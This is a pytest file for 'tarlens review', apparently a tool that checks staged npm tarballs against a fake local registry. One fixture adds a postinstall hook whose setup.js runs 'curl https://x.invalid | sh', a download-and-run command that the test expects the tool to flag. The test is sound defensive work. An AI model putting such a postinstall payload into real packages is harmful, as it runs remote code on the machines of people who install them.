"""`tarlens review` end to end against a real HTTP registry on loopback."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jsonschema
import pytest

import tarlens
from fixtures.examples import build as examples
from tarlens._cli import main
from tests.fakeregistry import FakeRegistry, closed_port, greeter, integrity

NAME = "@example/greeter"
SCHEMAS = Path(__file__).resolve().parent.parent / "src" / "tarlens" / "schema"
STAGED_WITH_POSTINSTALL = {
    "scripts": {"test": "node --test", "postinstall": "node lib/setup.js"},
    "files": {"lib/setup.js": b"require('child_process').exec('curl https://x.invalid | sh')\n"},
}


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """No npm configuration of the machine leaks in; the cache is private to the test."""
    import os

    for key in list(os.environ):
        if key.lower().startswith("npm_config_"):
            monkeypatch.delenv(key)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("TARLENS_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.fixture
def reg(env: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeRegistry]:
    with FakeRegistry().running() as r:
        monkeypatch.setenv("npm_config_registry", r.url)
        yield r


def staged(tmp_path: Path, version: str = "1.4.1", **changes: Any) -> str:
    data = greeter(version, **changes)
    path = tmp_path / f"greeter-{version}-stage1.tgz"
    path.write_bytes(data)
    return str(path)


def validator(name: str) -> jsonschema.Draft202012Validator:
    from tests.test_renderers import _closed

    schema = json.loads((SCHEMAS / f"{name}.schema.json").read_text(encoding="utf-8"))
    return jsonschema.Draft202012Validator(_closed(schema))


def run_json(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, dict[str, Any]]:
    code = main(["review", *args, "--format", "json"])
    out = capsys.readouterr().out
    return code, json.loads(out)


def test_judged_scenario(reg: FakeRegistry, env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A published package plus a new postinstall running a new file, reviewed against the
    registry's latest with one command: exit 1, a high finding, `old` names 1.4.0."""
    published = greeter("1.4.0")
    reg.publish(NAME, "1.3.0", greeter("1.3.0"), time="2023-06-01T00:00:00.000Z", tag=None)
    reg.publish(NAME, "1.4.0", published)
    path = staged(env, **STAGED_WITH_POSTINSTALL)
    shasum = tarlens.load(path).shasum
    code, doc = run_json(capsys, path, "--expect-shasum", shasum)
    assert code == 1
    assert doc["old"]["version"] == "1.4.0"
    assert doc["old"]["name"] == NAME
    assert doc["old"]["integrity"] == integrity(published)
    assert doc["old"]["from"].endswith("/@example/greeter/-/greeter-1.4.0.tgz")
    assert doc["new"]["version"] == "1.4.1"
    high = [f for f in doc["findings"] if f["severity"] in ("high", "critical")]
    assert "SCR010" in {f["rule_id"] for f in high}
    review = doc["review"]
    assert review["against"]["source"] == "registry"
    assert review["against"]["verified"] == "sha512"
    assert review["staged_verified"] == "shasum"
    assert review["metadata"] is True
    assert not list(validator("diff").iter_errors(doc))


def test_wrong_expected_shasum_is_exit_2_with_one_line(
    env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = staged(env)
    assert main(["review", path, "--expect-shasum", "0" * 40]) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    lines = captured.err.splitlines()
    assert len(lines) == 1
    assert lines[0].startswith("tarlens: error: ")
    assert "is not the staged tarball" in lines[0]
    assert tarlens.load(path).shasum in lines[0]


def test_malformed_expected_shasum_and_integrity(
    env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = staged(env)
    assert main(["review", path, "--expect-shasum", "abc"]) == 2
    assert "40 hex digits" in capsys.readouterr().err
    good = tarlens.load(path).integrity
    assert main(["review", path, "--expect-integrity", good, "--against", path]) == 0
    capsys.readouterr()
    bad = "sha512-" + "A" * 86 + "=="
    assert main(["review", path, "--expect-integrity", bad, "--against", path]) == 2
    assert "is not the staged tarball" in capsys.readouterr().err


def test_a_tampered_registry_tarball_is_refused(
    reg: FakeRegistry, env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    reg.publish(NAME, "1.4.0", greeter("1.4.0"), served=greeter("1.4.0", description="x"))
    assert main(["review", staged(env)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert "not the ones the registry describes" in err
    assert not list((env / "cache").rglob("*.tgz"))


def test_offline_against_a_local_file(
    env: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    old = examples.HERE / "greeter-1.4.0.tgz"
    new = examples.HERE / "greeter-1.4.1-staged.tgz"
    monkeypatch.setenv("npm_config_registry", closed_port())  # nothing could be contacted
    code, doc = run_json(capsys, str(new), "--against", str(old))
    assert code == 1
    assert doc["old"]["version"] == "1.4.0"
    assert doc["old"]["from"] == str(old)
    assert doc["review"]["against"]["source"] == "file"
    assert doc["review"]["metadata"] is False
    assert not list(validator("diff").iter_errors(doc))


def test_offline_registry_is_one_error_line(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["review", staged(env), "--registry", closed_port()]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert err.startswith("tarlens: error: registry http://127.0.0.1:")
    assert "cannot reach it" in err


def test_against_previous_and_a_version(
    reg: FakeRegistry, env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for v in ("1.2.0", "1.3.0", "2.0.0"):
        reg.publish(NAME, v, greeter(v))
    path = staged(env, "1.3.1")
    _, doc = run_json(capsys, path, "--against", "previous")
    assert doc["old"]["version"] == "1.3.0"
    _, doc = run_json(capsys, path, "--against", "1.2.0")
    assert doc["old"]["version"] == "1.2.0"
    _, doc = run_json(capsys, path)  # latest is 2.0.0, newer than the staged backport
    assert doc["old"]["version"] == "2.0.0"
    assert any("--against previous" in n for n in doc["review"]["notes"])
    assert main(["review", path, "--against", "9.9.9"]) == 2
    assert "no version or dist-tag '9.9.9'" in capsys.readouterr().err


def test_first_publish_is_an_inspect_only_review(
    reg: FakeRegistry, env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, doc = run_json(capsys, staged(env))
    assert code == 0
    assert "old" not in doc
    assert doc["review"]["against"] is None
    assert any("first publish" in n for n in doc["review"]["notes"])
    assert not list(validator("inspect").iter_errors(doc))
    # every file is new: every code file is scanned, as a diff scans every added file
    assert doc["scan"] == "all"
    assert all(f["scanned"] for f in doc["files"])


def test_already_published_version(
    reg: FakeRegistry, env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    reg.publish(NAME, "1.4.0", greeter("1.4.0"), time="2024-01-01T00:00:00.000Z")
    data = greeter("1.4.1")
    reg.publish(NAME, "1.4.1", data, time="2024-02-01T00:00:00.000Z")
    path = env / "published.tgz"
    path.write_bytes(data)
    _, doc = run_json(capsys, str(path))
    assert doc["old"]["version"] == "1.4.0"
    assert doc["review"]["already_published"] is True
    assert any("already the latest" in n for n in doc["review"]["notes"])


def test_registry_metadata_rules_in_a_review(
    reg: FakeRegistry, env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    trusted = {"name": "GitHub Actions", "trustedPublisher": {"id": "github"}}
    reg.publish(
        NAME, "1.3.0", greeter("1.3.0"), tag=None, _npmUser=trusted,
        time="2024-01-01T00:00:00.000Z",
    )  # fmt: skip
    # 1.4.0, what consumers install today, came from a laptop, and its registry manifest
    # runs a script its tarball does not show
    reg.publish(
        NAME, "1.4.0", greeter("1.4.0"), _npmUser={"name": "mallory"},
        time="2024-01-02T00:00:00.000Z", scripts={"postinstall": "node x.js"},
    )  # fmt: skip
    reg.publish(
        "fresh-helper",
        "1.0.0",
        greeter("1.0.0", name="fresh-helper"),
        time="2099-01-01T00:00:00.000Z",
    )
    reg.publish(
        "scripted", "2.0.0", greeter("2.0.0", name="scripted"),
        scripts={"install": "node-gyp rebuild"},
    )  # fmt: skip
    deps = {"kleur": "^4.1.5", "fresh-helper": "^1.0.0", "scripted": "2.0.0", "gone": "^1"}
    deps["git-dep"] = "github:o/r"
    _, doc = run_json(capsys, staged(env, dependencies=deps))
    found = {f["rule_id"] for f in doc["findings"]}
    assert {"REG001", "REG002", "REG005", "REG007"} <= found
    checked = {d["name"]: d for d in doc["review"]["dependencies_checked"]}
    assert set(checked) == {"fresh-helper", "scripted", "gone"}
    assert checked["gone"]["missing"] is True
    assert checked["scripted"]["install_scripts"] == ["install: node-gyp rebuild"]
    assert doc["review"]["dependencies_unchecked"] == ["git-dep"]
    assert not list(validator("diff").iter_errors(doc))


def test_dependency_lookups_are_bounded(
    reg: FakeRegistry, env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    reg.publish(NAME, "1.4.0", greeter("1.4.0"))
    deps = {f"d{i}": "^1" for i in range(5)}
    _, doc = run_json(capsys, staged(env, dependencies=deps), "--max-dependency-lookups", "2")
    assert len(doc["review"]["dependencies_checked"]) == 2
    assert len(doc["review"]["dependencies_unchecked"]) == 3


def test_text_and_markdown_name_what_was_compared(
    reg: FakeRegistry, env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    reg.publish(NAME, "1.4.0", greeter("1.4.0"))
    path = staged(env, **STAGED_WITH_POSTINSTALL)
    assert main(["review", path]) == 1
    text = capsys.readouterr().out
    assert "review  compared with @example/greeter@1.4.0 (registry http://127.0.0.1:" in text
    assert "sha512 verified" in text
    assert main(["review", path, "--format", "markdown", "--no-cache"]) == 1
    note = capsys.readouterr().out
    assert "compared with @example/greeter@1.4.0" in note
    assert "do not approve" in note.lower()


def test_second_review_uses_the_cache(
    reg: FakeRegistry, env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    reg.publish(NAME, "1.4.0", greeter("1.4.0"))
    path = staged(env)
    main(["review", path])
    main(["review", path])
    capsys.readouterr()
    tarballs = [p for p, _ in reg.requests if p.endswith(".tgz")]
    assert len(tarballs) == 1
    assert list((env / "cache" / "tarballs").glob("sha512-*.tgz"))
